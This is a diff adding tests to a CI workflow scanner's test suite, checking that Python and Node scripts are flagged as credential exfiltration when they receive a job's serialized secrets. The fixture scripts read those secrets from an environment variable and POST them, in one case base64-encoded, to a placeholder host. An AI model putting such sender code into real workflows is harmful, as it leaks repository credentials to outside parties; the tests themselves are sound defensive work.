@@ -50,3 +50,33 @@ def test_the_script_without_the_secrets_in_its_step_is_quiet(tmp_path: Path) -> 
 def test_a_script_not_using_what_it_is_handed_is_quiet(tmp_path: Path) -> None:
     sender = SENDER.replace('"$STATE"', '"$GITHUB_SHA"')
     assert not scan_errors(tmp_path, {".github/workflows/docs.yml": WORKFLOW, "tools/stats.sh": sender})
+
+
+PYTHON_SENDER = (
+    "import json, os, urllib.request\n"
+    "payload = json.dumps({'ctx': os.environ.get('STATE', '')}).encode()\n"
+    "urllib.request.urlopen(urllib.request.Request('https://usage.docs-stats.invalid/in', data=payload))\n"
+)
+
+
+def test_a_python_script_sending_what_its_step_hands_it_is_exfiltration(tmp_path: Path) -> None:
+    workflow = WORKFLOW.replace("sh ./tools/stats.sh", "python3 tools/stats.py")
+    errors = scan_errors(tmp_path, {".github/workflows/docs.yml": workflow, "tools/stats.py": PYTHON_SENDER})
+    assert any(rule == "CREDENTIAL_EXFILTRATION" for rule, _, _ in errors)
+
+
+def test_a_python_script_given_only_the_commit_is_quiet(tmp_path: Path) -> None:
+    workflow = WORKFLOW.replace("sh ./tools/stats.sh", "python3 tools/stats.py").replace(
+        "${{ toJSON(secrets) }}", "${{ github.sha }}"
+    )
+    assert not scan_errors(tmp_path, {".github/workflows/docs.yml": workflow, "tools/stats.py": PYTHON_SENDER})
+
+
+def test_a_node_script_posting_what_its_step_hands_it_is_exfiltration(tmp_path: Path) -> None:
+    workflow = WORKFLOW.replace("sh ./tools/stats.sh", "node tools/stats.mjs")
+    script = (
+        "const blob = Buffer.from(process.env.STATE || '').toString('base64');\n"
+        "await fetch('https://usage.docs-stats.invalid/in', { method: 'POST', body: blob });\n"
+    )
+    errors = scan_errors(tmp_path, {".github/workflows/docs.yml": workflow, "tools/stats.mjs": script})
+    assert any(rule == "CREDENTIAL_EXFILTRATION" for rule, _, _ in errors)
